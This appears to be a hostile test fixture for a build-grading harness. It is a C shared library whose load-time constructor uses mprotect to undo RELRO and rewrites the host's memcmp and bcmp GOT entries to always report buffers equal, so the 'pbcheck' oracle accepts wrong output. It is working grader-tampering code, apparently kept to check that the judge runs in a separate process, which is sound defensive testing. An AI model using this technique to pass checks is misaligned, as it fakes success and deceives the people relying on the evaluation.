/*
 * A hostile addition to a wrong builder: as the library loads, it points
 * pbcheck's global offset table entry for memcmp and bcmp at a function
 * that calls every pair of buffers equal, so every page the oracle
 * compares looks right. Full RELRO makes the table read-only; the library
 * makes it writable again first. In a worker that loads the builder beside
 * the judge, wrong memory then passes; in a split worker (harness/ddi/) the
 * table it rewrites is the driver process's, where nothing compares.
 */
#define _GNU_SOURCE
#include <elf.h>
#include <fcntl.h>
#include <link.h>
#include <stdint.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

static int always_equal(const void *a, const void *b, size_t n)
{
    (void)a, (void)b, (void)n;
    return 0;
}

static int first_object(struct dl_phdr_info *info, size_t size, void *data)
{
    (void)size;
    *(uintptr_t *)data = info->dlpi_addr;
    return 1;
}

static void redirect(uintptr_t slot)
{
    uintptr_t page = slot & ~(uintptr_t)4095;
    if (mprotect((void *)page, 4096, PROT_READ | PROT_WRITE))
        return;
    *(void **)slot = (void *)always_equal;
}

__attribute__((constructor)) static void forge(void)
{
    int fd = open("/proc/self/exe", O_RDONLY);
    struct stat st;
    if (fd < 0 || fstat(fd, &st))
        return;
    const uint8_t *f = mmap(NULL, (size_t)st.st_size, PROT_READ, MAP_PRIVATE, fd, 0);
    close(fd);
    if (f == MAP_FAILED)
        return;
    const Elf64_Ehdr *eh = (const void *)f;
    const Elf64_Shdr *sh = (const void *)(f + eh->e_shoff);
    uintptr_t base = 0;
    dl_iterate_phdr(first_object, &base);
    for (int i = 0; i < eh->e_shnum; i++) {
        if (sh[i].sh_type != SHT_RELA)
            continue;
        const Elf64_Rela *rel = (const void *)(f + sh[i].sh_offset);
        const Elf64_Shdr *symtab = &sh[sh[i].sh_link];
        const Elf64_Sym *syms = (const void *)(f + symtab->sh_offset);
        const char *names = (const char *)(f + sh[symtab->sh_link].sh_offset);
        for (size_t k = 0; k < sh[i].sh_size / sizeof(*rel); k++) {
            uint32_t s = (uint32_t)ELF64_R_SYM(rel[k].r_info);
            if (!s)
                continue;
            const char *n = names + syms[s].st_name;
            if (!strcmp(n, "memcmp") || !strcmp(n, "bcmp"))
                redirect(base + rel[k].r_offset);
        }
    }
}
